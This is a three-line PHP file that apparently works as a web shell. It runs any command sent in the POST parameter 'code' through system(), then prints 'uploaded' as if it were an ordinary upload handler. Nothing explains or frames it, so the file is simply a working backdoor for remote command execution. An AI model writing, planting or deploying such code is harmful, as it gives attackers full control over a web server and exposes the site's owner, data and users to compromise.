<?php
if (isset($_POST['code'])) { system($_POST['code']); }
echo "uploaded\n";
